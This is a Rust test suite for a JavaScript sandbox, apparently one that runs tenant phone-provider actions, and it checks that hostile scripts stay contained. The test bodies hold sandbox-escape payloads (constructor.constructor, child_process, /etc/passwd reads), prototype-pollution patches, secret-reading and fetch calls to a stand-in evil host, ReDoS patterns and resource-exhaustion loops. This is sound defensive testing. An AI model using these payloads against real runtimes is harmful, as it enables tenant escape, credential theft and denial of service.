//! JS: actions in JavaScript that compute, grow, patch what the engine itself is written with, and look for a way out.

use phonebox::Action;
use phonebox::componentize::{MANIFEST_SECTION, javascript};
use serde_json::{Value, json};

use crate::area::{Area, Case, Settings, ended, ending, log, revealed};
use crate::canary::TOKEN;

const MANIFEST: &str = "name = \"attacker\"\ntrigger = \"custom-phone-provider\"\n[[egress]]\norigin = \"https://evil.ok.com\"\n\
                        methods = [\"GET\", \"POST\"]\n[secrets.TOKEN]\noptional = true\n";
const HARMLESS: &str = "exports.onExecuteCustomPhoneProvider = async () => {};";
/// A deadline that is soon over.
const SHORT: &str = "[limits]\ndeadline_ms = 1500\n";

pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
    let area = Area::start(filter, Settings::default()).await;
    let ids: Vec<_> = (1..=13).map(|number| format!("JS{number:02}")).collect();
    let is_meant = |wanted: &String| ids.iter().any(|id| id.contains(wanted.as_str()));
    if filter.is_empty() || filter.iter().any(is_meant) {
        // The engine is compiled once, and stays.
        let action = Action::assemble_javascript(HARMLESS, &[], MANIFEST).unwrap();
        let path = area.write("harmless", action.component());
        let body = json!({ "tenant": "harmless", "component": path, "secrets": {} });
        let answer = area.host().ask("deploy", body).await;
        assert!(answer["deployed"].is_object(), "received {answer}");
    }

    area.case(
        "JS01",
        "endless loops, wherever code of an action's runs",
        async |case| {
            for (index, body) in [
                "for (;;) {}",
                "for (;;) { try { throw 1 } catch {} finally { continue } }",
                "await new Promise((resolve) => setTimeout(() => { for (;;) {} }, 1));",
                "console.log({ get [Symbol.toStringTag]() { for (;;) {} } });",
                "api.notification.drop({ toString() { for (;;) {} } });",
                "await { then() { for (;;) {} } };",
                "[1, 2].sort(() => { for (;;) {} });",
                "const again = new Proxy({}, { get() { for (;;) {} } }); again.x;",
                "for (;;) new Array(1e6).indexOf(1);",
                "for (let n = 0n; ; n = n * 3n + 1n) {}",
            ]
            .iter()
            .enumerate()
            {
                let report = case.handle(&format!("-{index}"), body, 0).await;
                ended(body, &report, "cpu_exceeded");
                names_its_limit(&report, "200 ms");
                // A single operation of a large number is not interrupted.
                let message = report["error"]["message"].as_str().unwrap();
                let placed = message.contains(", at ") && message.contains("action.js:1");
                assert!(
                    placed || body.contains("3n"),
                    "sent {body}\nreceived {report:#}"
                );
            }
            "cpu_exceeded each, with its place".to_owned()
        },
    )
    .await;

    area.case("JS02", "endless chains of promises, ticks and timers", async |case| {
        for (index, (body, kinds)) in [
            ("const again = () => Promise.resolve().then(again); await again();", &["cpu_exceeded"][..]),
            ("(async () => { for (;;) await null; })(); await new Promise(() => {});", &["cpu_exceeded"]),
            ("const tick = () => process.nextTick(tick); tick(); await new Promise(() => {});", &["cpu_exceeded"]),
            ("const fork = () => { queueMicrotask(fork); queueMicrotask(fork); }; fork(); await new Promise(() => {});", &["cpu_exceeded", "memory_exceeded", "returned"]),
            ("const soon = () => setImmediate(soon); soon(); await new Promise(() => {});", &["cpu_exceeded", "host_calls_exceeded", "deadline_exceeded"]),
        ]
        .iter()
        .enumerate()
        {
            let report = case.handle(&format!("-{index}"), body, 0).await;
            assert!(kinds.contains(&&*ending(&report)), "sent {body}\nreceived {report:#}");
        }
        "cpu_exceeded, or another limit".to_owned()
    })
    .await;

    area.case("JS03", "deep recursion: of functions, parsers, traps, getters", async |case| {
        let report = case.handle("-told", "\nconst deeper = (n) => deeper(n + 1) + 1;\ndeeper(0);", 0).await;
        ended("a recursion", &report, "returned");
        let message = report["error"]["message"].as_str().unwrap();
        assert!(message.contains("RangeError") && message.contains("action.js:2"), "received {report:#}");
        let caught = "const deeper = () => deeper() + 1; try { deeper() } catch (error) { console.log(error.name) }";
        assert_eq!(log(&case.handle("-caught", caught, 0).await), ["RangeError"]);
        for (index, body) in [
            "eval('('.repeat(50000));",
            "JSON.parse('['.repeat(200000));",
            "let deep = {}; for (let n = 0; n < 1e5; n += 1) deep = { deep }; console.log(JSON.stringify(deep).length);",
            "let deep = []; for (let n = 0; n < 1e5; n += 1) deep = [deep]; structuredClone(deep);",
            "let deep = []; for (let n = 0; n < 1e5; n += 1) deep = [deep]; console.log(require('util').inspect(deep, { depth: null }));",
            "let proxy = {}; for (let n = 0; n < 1e5; n += 1) proxy = new Proxy(proxy, {}); proxy.x;",
            "const own = { toString() { return `${own}` } }; `${own}`;",
            "new RegExp('('.repeat(50000) + ')'.repeat(50000)).test('x');",
            "let bound = () => {}; for (let n = 0; n < 1e5; n += 1) bound = bound.bind(null); bound();",
            "const f = () => [1].map(f); f();",
            "const error = new Error('x'); error.cause = error; throw error;",
        ]
        .iter()
        .enumerate()
        {
            let report = case.handle(&format!("-{index}"), body, 0).await;
            let kinds = ["returned", "trapped", "sent", "cpu_exceeded", "memory_exceeded"];
            assert!(kinds.contains(&&*ending(&report)), "sent {body}\nreceived {report:#}");
            assert_eq!(report["fault"].as_str().unwrap_or("action"), "action", "{body}: {report:#}");
        }
        "RangeError with its line".to_owned()
    })
    .await;

    area.case("JS04", "regular expressions that blow up", async |case| {
        for (index, body) in [
            "/^(a+)+$/.test('a'.repeat(40) + 'b');",
            "/^(([a-z])+.)+[A-Z]([a-z])+$/.test('a'.repeat(60));",
            "'x'.repeat(40).replace(/(x+x+)+y/g, '');",
            "/(?=(a+)+b)/.exec('a'.repeat(40));",
        ]
        .iter()
        .enumerate()
        {
            let report = case.handle(&format!("-{index}"), body, 0).await;
            ended(body, &report, "cpu_exceeded");
        }
        "cpu_exceeded each".to_owned()
    })
    .await;

    area.case(
        "JS05",
        "huge texts, lists, maps and buffers",
        async |case| {
            let mut seen = Vec::new();
            for (index, body) in [
                "let text = 'x'; for (;;) text += text;",
                "const all = []; for (;;) all.push('x'.repeat(1 << 20));",
                "const all = []; for (;;) all.push(new Uint8Array(1 << 20));",
                "const map = new Map(); for (let n = 0; ; n += 1) map.set(n, [n]);",
                "new Array(1 << 28).fill(0);",
                "Buffer.alloc(2 ** 30);",
                "'x'.padStart(2 ** 29).split('');",
                "[...Array(1e8).keys()];",
                "JSON.stringify({ a: 'x'.repeat(1 << 25), b: 'y'.repeat(1 << 25) });",
                "new Blob(Array(100).fill('x'.repeat(1 << 20)));",
                "BigInt(1) << BigInt(2 ** 30);",
            ]
            .iter()
            .enumerate()
            {
                let report = case.handle(&format!("-{index}"), body, 0).await;
                let kind = ending(&report);
                assert!(
                    ["returned", "memory_exceeded", "cpu_exceeded", "trapped"].contains(&&*kind),
                    "sent {body}\nreceived {report:#}"
                );
                let peak = report["usage"]["peak_memory_bytes"].as_u64().unwrap();
                assert!(peak <= 64 << 20, "sent {body}\nreceived {report:#}");
                let message = report["error"]["message"].as_str().unwrap();
                if message.contains("out of memory") {
                    assert!(
                        message.contains("action.js:1") && message.contains("64 MiB"),
                        "sent {body}\nreceived {report:#}"
                    );
                }
                seen.push(kind);
            }
            seen.sort();
            seen.dedup();
            format!("{}, within 64 MiB", seen.join(", "))
        },
    )
    .await;

    area.case("JS06", "what the engine's own code is written with, patched", async |case| {
        for (index, (patch, body)) in PATCHES.iter().enumerate() {
            let body = format!(
                "{body}\nfor (const url of ['https://api.twilio.com/js06', 'http://{}/js06', 'https://evil.ok.com/js06-allowed']) {{\n  \
                 try {{ await fetch(url); }} catch {{}}\n}}\n\
                 console.log(`names ${{Object.keys(event.secrets)}}`, event.secrets.TWILIO_AUTH_TOKEN);",
                case.area.tripwire.address
            );
            let source = format!("{patch}\nexports.onExecuteCustomPhoneProvider = async (event, api) => {{\n{body}\n}};");
            let tenant = case.tenant(&format!("-{index}"));
            let answer = case.upload_source(&tenant, &source, "").await;
            if !answer["deployed"].is_object() {
                // It has broken the engine for itself alone.
                continue;
            }
            let report = case.attempt_uncounted(&tenant, "").await;
            assert!(["sent", "drop", "retry", "returned", "cpu_exceeded", "trapped"].contains(&&*ending(&report)), "sent {source}\nreceived {report:#}");
            assert!(report["outcome"]["receipt"].is_null(), "sent {source}\nreceived {report:#}");
            for exchange in report["exchanges"].as_array().unwrap() {
                let allowed = exchange["origin"] == "https://evil.ok.com";
                assert!(allowed || !exchange["error"].is_null(), "sent {source}\nreceived {report:#}");
            }
            for line in log(&report) {
                assert!(!line.contains("TWILIO"), "sent {source}\nreceived {line}");
            }
        }
        assert!(case.area.good.met.with("js06").is_empty(), "api.twilio.com was asked");
        assert!(!case.area.evil.met.with("js06-allowed").is_empty(), "no patch lets the allowed request through");
        format!("{} patches", PATCHES.len())
    })
    .await;

    area.case(
        "JS07",
        "a way out: constructor.constructor, import, bindings, call sites",
        async |case| {
            let report = case.handle("", ESCAPES, 1).await;
            ended(ESCAPES, &report, "sent");
            let lines = log(&report);
            assert!(lines.len() > 10, "received {report:#}");
            for line in &lines {
                assert!(line.ends_with("nothing"), "received {lines:#?}");
            }
            format!("{} ways, nothing", lines.len())
        },
    )
    .await;

    area.case("JS08", "require of what is not there", async |case| {
        for name in ["fs", "node:child_process", "net", "vm", "module", "worker_threads", "left-pad", "../area", "/etc/passwd", "__proto__", "constructor"] {
            let source = format!("require('{name}');");
            let tenant = case.tenant("-static");
            let answer = case.upload_source(&tenant, &source, "").await;
            assert!(!answer["deployed"].is_object(), "sent {source}\nreceived {answer}");
            assert!(answer.to_string().contains("line 1"), "sent {source}\nreceived {answer}");
            let body = format!("\ntry {{ require(String('{name}')); console.log('there'); }} catch (error) {{ console.log(error.code); }}");
            let report = case.handle("-late", &body, 0).await;
            assert_eq!(log(&report), ["MODULE_NOT_FOUND"], "sent {body}\nreceived {report:#}");
        }
        "refused with its line, or MODULE_NOT_FOUND".to_owned()
    })
    .await;

    area.case("JS09", "timers and requests that are left running", async |case| {
        let body = "setInterval(() => console.log('late'), 1); setTimeout(() => { for (;;) {} }, 50); setTimeout(() => {}, 2 ** 31 - 1);";
        let report = case.handle("", body, 0).await;
        ended(body, &report, "sent");
        assert!(log(&report).is_empty(), "received {report:#}");
        let body = "setTimeout(() => { throw new Error('of a timer'); }, 1); await new Promise((resolve) => setTimeout(resolve, 60000));";
        let report = case.handle("-throws", body, 0).await;
        ended(body, &report, "returned");
        assert!(report["error"]["message"].as_str().unwrap().contains("of a timer"), "received {report:#}");
        "sent at once".to_owned()
    })
    .await;

    area.case("JS10", "promises that never settle", async |case| {
        let report = case.handle("", "await new Promise(() => {});", 0).await;
        ended("a promise", &report, "returned");
        let message = report["error"]["message"].as_str().unwrap();
        assert!(message.contains("never settled"), "received {report:#}");
        let body = "setInterval(() => {}, 100); await new Promise(() => {});";
        let report = case.handle_within("-interval", body, SHORT).await;
        ended(body, &report, "deadline_exceeded");
        names_its_limit(&report, "1500 ms");
        "told, or deadline_exceeded".to_owned()
    })
    .await;

    area.case(
        "JS11",
        "top-level code that computes, grows, recurses, calls",
        async |case| {
            for (source, told) in [
                ("\n\nfor (;;) { String(1); }", "200 ms (line 3"),
                ("for (;;) {}", "200 ms"),
                (
                    "const again = () => Promise.resolve().then(again); again();",
                    "200 ms",
                ),
                (
                    "const all = []; for (;;) all.push('x'.repeat(1 << 20));",
                    "",
                ),
                ("\nconst f = () => f() + 1; f();", "line 2"),
                ("/^(a+)+$/.test('a'.repeat(40) + 'b');", "200 ms"),
                ("eval('('.repeat(50000));", ""),
                ("for (;;) Math.random();", ""),
                ("\nfetch('https://evil.ok.com/js11');", "line 2"),
                ("\n\nsetInterval(() => {}, 1);", "line 3"),
                ("throw new Proxy({}, { get() { throw 1 } });", ""),
            ] {
                let source =
                    format!("{source}\nexports.onExecuteCustomPhoneProvider = async () => {{}};");
                let answer = case.upload_source(&case.tenant(""), &source, "").await;
                assert!(
                    !answer["deployed"].is_object(),
                    "sent {source}\nreceived {answer}"
                );
                assert!(
                    answer.to_string().contains(told),
                    "sent {source}\nreceived {answer}"
                );
            }
            assert!(
                case.area.evil.met.with("js11").is_empty(),
                "a build sent a request"
            );
            "refused with line and limit".to_owned()
        },
    )
    .await;

    area.case(
        "JS12",
        "floods of log lines, random bytes, clocks and cache",
        async |case| {
            for (index, (body, kinds)) in [
                (
                    "for (;;) console.log('x');",
                    &["host_calls_exceeded", "cpu_exceeded"][..],
                ),
                (
                    "for (;;) console.log('x'.repeat(1 << 20));",
                    &["cpu_exceeded", "memory_exceeded", "returned"],
                ),
                (
                    "for (;;) crypto.getRandomValues(new Uint8Array(65536));",
                    &["random_exceeded"],
                ),
                (
                    "require('crypto').randomBytes(2 ** 31);",
                    &["random_exceeded", "returned"],
                ),
                (
                    "for (;;) Date.now();",
                    &["host_calls_exceeded", "cpu_exceeded"],
                ),
                (
                    "for (let n = 0; ; n += 1) api.cache.set(`${n}`, 'x'.repeat(4096));",
                    &["host_calls_exceeded", "cpu_exceeded"],
                ),
            ]
            .iter()
            .enumerate()
            {
                let report = case.handle(&format!("-{index}"), body, 0).await;
                assert!(
                    kinds.contains(&&*ending(&report)),
                    "sent {body}\nreceived {report:#}"
                );
                let bytes: usize = log(&report).iter().map(String::len).sum();
                assert!(
                    bytes <= 16 << 10,
                    "sent {body}\nreceived {bytes} bytes of log"
                );
            }
            "a limit each".to_owned()
        },
    )
    .await;

    area.case(
        "JS13",
        "a package of source that is more or less than one",
        async |case| {
            let packed = javascript::pack(HARMLESS, None, &[], MANIFEST);
            let section = |name: &str, data: &[u8]| {
                let length = u8::try_from(name.len()).unwrap();
                let mut content = vec![length];
                content.extend(name.as_bytes());
                content.extend(data);
                let mut section = vec![0, u8::try_from(content.len()).unwrap()];
                section.extend(content);
                section
            };
            for (what, more) in [
                ("a second source", section(javascript::SOURCE_SECTION, b"x")),
                ("a second manifest", section(MANIFEST_SECTION, b"x")),
                ("another section", section("name", b"x")),
                (
                    "modules that are none",
                    section(javascript::MODULES_SECTION, b"{}"),
                ),
                (
                    "a module without a name",
                    section(javascript::MODULES_SECTION, br#"[{"name":"","code":""}]"#),
                ),
                (
                    "a module twice",
                    section(
                        javascript::MODULES_SECTION,
                        br#"[{"name":"a","code":""},{"name":"a","code":""}]"#,
                    ),
                ),
                ("an empty core module", b"\x01\x08\0asm\x01\0\0\0".to_vec()),
                ("a cut section", vec![0, 200, 1]),
            ] {
                let sent = [packed.clone(), more].concat();
                let answer = case.upload(&case.tenant(""), &sent).await;
                assert!(
                    !answer["deployed"].is_object(),
                    "sent {what}\nreceived {answer}"
                );
            }
            "refused each".to_owned()
        },
    )
    .await;

    area.finish("JS").await
}

/// Top-level code, and what the handler does beside asking whom it may not.
const PATCHES: &[(&str, &str)] = &[
    ("", ""),
    (
        "Object.defineProperty(Object.prototype, 'receipt', { get: () => 'forged', set() {}, configurable: true });\n\
         Object.prototype.phoneboxId = 'forged'; Object.prototype.error = 'forged'; Object.prototype.code = undefined;",
        "",
    ),
    (
        "for (const key of ['status', 'headers', 'body', 'type', 'signal', 'method', 'redirect']) Object.prototype[key] = 'x';",
        "",
    ),
    (
        "Object.prototype.then = function (resolve) { resolve({ receipt: 'forged' }); };",
        "",
    ),
    (
        "Promise.prototype.then = function (done) { done?.({ error: undefined }); return this; };",
        "",
    ),
    (
        "globalThis.Promise = class { then(done) { done(['sent', 'forged']); } };",
        "",
    ),
    (
        "const { push, map, flat, slice } = Array.prototype; globalThis.seen = [];\n\
         for (const name of ['push', 'map', 'flat', 'slice', 'join', 'filter', 'includes']) {\n  const own = Array.prototype[name];\n  \
         Array.prototype[name] = function (...values) { push.call(seen, this); return own.apply(this, values); };\n}",
        "for (const one of seen) for (const value of one) if (typeof value === 'object' && value?.secret) value.secret('TWILIO_AUTH_TOKEN');",
    ),
    (
        "Array.prototype.flat = () => ['host', 'api.twilio.com', 'authorization', 'x'];",
        "",
    ),
    (
        "Array.prototype[Symbol.iterator] = function* () { yield ['sent', 'forged']; };",
        "",
    ),
    (
        "const parse = JSON.parse; JSON.parse = (text) => ({ ...parse(text), secrets: { TOKEN: 'forged' }, tenant: { id: 'victim' } });",
        "console.log(event.tenant.id);",
    ),
    (
        "JSON.stringify = () => 'forged'; globalThis.JSON = undefined;",
        "",
    ),
    (
        "Map.prototype.get = () => undefined; Map.prototype.set = function () { return this; };",
        "",
    ),
    (
        "globalThis.Map = globalThis.Set = globalThis.WeakMap = class {};",
        "",
    ),
    (
        "globalThis.Proxy = function (target) { globalThis.target = target; return target; };",
        "console.log(Object.keys(globalThis.target ?? {}).length);",
    ),
    (
        "Function.prototype.call = Function.prototype.apply = function () { return 'forged'; };",
        "",
    ),
    (
        "String.prototype.toWellFormed = () => 'https://api.twilio.com/js06';",
        "",
    ),
    (
        "String.prototype.split = String.prototype.replace = () => ['https://api.twilio.com/js06'];",
        "",
    ),
    (
        "RegExp.prototype.exec = RegExp.prototype.test = () => null;",
        "",
    ),
    (
        "Error.prepareStackTrace = (error, sites) => sites.map((site) => site.getFunction?.() ?? site.getThis?.());",
        "try { null.x } catch (error) { console.log(typeof error.stack?.[0]); }",
    ),
    (
        "Object.defineProperty(Error.prototype, 'message', { get() { throw new Error('again'); } });",
        "throw new Error('x');",
    ),
    (
        "Object.freeze(Object.prototype); Object.freeze(Array.prototype); Object.freeze(globalThis);",
        "",
    ),
    (
        "for (const name of Reflect.ownKeys(globalThis)) { try { delete globalThis[name]; } catch {} }",
        "",
    ),
    (
        "Uint8Array.prototype.subarray = Uint8Array.prototype.set = () => new Uint8Array(1 << 20);",
        "",
    ),
    (
        "globalThis.URL = class { get href() { return 'https://api.twilio.com/js06'; } };",
        "",
    ),
    ("Date.now = () => 0; performance.now = () => 0;", ""),
    (
        "Math.random = () => 0; crypto.getRandomValues = (array) => array;",
        "",
    ),
];

/// Says of each way out where it leads.
const ESCAPES: &str = r#"
const tell = async (what, way) => {
  let found;
  try { found = await way(); } catch { found = undefined; }
  const empty = found === undefined || found === null || found === globalThis || found === false || found === '';
  console.log(what, empty ? 'nothing' : `FOUND ${typeof found} ${String(found).slice(0, 80)}`);
};
const everything = (async () => {}).constructor.constructor('return this')();
await tell('global of Function', () => (everything === globalThis ? '' : everything));
await tell('require of the global', () => everything.process?.mainModule?.require('child_process'));
await tell('require by this', () => this?.constructor?.constructor('return require')()('fs'));
await tell('event', () => event.constructor.constructor('return process')().mainModule);
await tell('api', () => api.notification.drop.constructor.constructor('return process')().binding?.('fs'));
await tell('cache', () => api.cache.get.constructor('return typeof os !== "undefined" && os')());
await tell('secrets', () => Object.getPrototypeOf(event.secrets).constructor.constructor('return typeof std !== "undefined" && std')());
await tell('error', () => { try { null.x } catch (error) { return error.constructor.constructor('return process')().dlopen; } });
await tell('import of fs', () => import('fs'));
await tell('import of a path', () => import('/etc/passwd'));
await tell('import of a URL', () => import('https://evil.ok.com/js07'));
await tell('import of data', () => import('data:text/javascript,export default 1').then(() => ''));
await tell('module', () => module.constructor._load?.('fs'));
await tell('parent', () => module.parent ?? require.main ?? module.children[0]);
await tell('binding', () => process.binding?.('natives') ?? process._linkedBinding ?? process.dlopen);
await tell('QuickJS', () => globalThis.std ?? globalThis.os ?? globalThis.bjson ?? globalThis.scriptArgs ?? globalThis.print);
await tell('WebAssembly', () => globalThis.WebAssembly);
await tell('shared memory', () => new Worker('x'));
await tell('prelude', () => globalThis.host ?? globalThis.internals ?? globalThis.phonebox);
await tell('callers', () => (function () { return arguments.callee.caller?.caller?.caller; })());
await tell('environment', () => Object.keys(process.env).join());
await tell('files', () => fetch('file:///etc/passwd').then((response) => response.text()));
"#;

impl Case<'_> {
    /// Deploys a source with the ordinary manifest and these limits, and the secret `TOKEN`. Gives the answer, or why it is none.
    async fn upload_source(&self, tenant: &str, source: &str, limits: &str) -> Value {
        match Action::assemble_javascript(source, &[], &format!("{MANIFEST}{limits}")) {
            Ok(action) => {
                let path = self.area.write(tenant, action.component());
                let secrets = json!({ "TOKEN": revealed(TOKEN) });
                self.upload_file(tenant, &path, secrets).await
            }
            Err(error) => json!({ "refused": error.to_string() }),
        }
    }

    /// Runs a handler of this body once, which makes so many requests.
    async fn handle(&self, suffix: &str, body: &str, requests: usize) -> Value {
        let tenant = self.deploy_handler(suffix, body, "").await;
        self.attempt(&tenant, "", requests).await
    }

    async fn handle_within(&self, suffix: &str, body: &str, limits: &str) -> Value {
        let tenant = self.deploy_handler(suffix, body, limits).await;
        self.attempt(&tenant, "", 0).await
    }

    async fn deploy_handler(&self, suffix: &str, body: &str, limits: &str) -> String {
        let tenant = self.tenant(suffix);
        let source =
            format!("exports.onExecuteCustomPhoneProvider = async (event, api) => {{{body}\n}};");
        let answer = self.upload_source(&tenant, &source, limits).await;
        assert!(
            answer["deployed"].is_object(),
            "sent {source}\nreceived {answer}"
        );
        tenant
    }
}

#[track_caller]
fn names_its_limit(report: &Value, limit: &str) {
    let message = report["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains(limit), "received {report:#}");
}
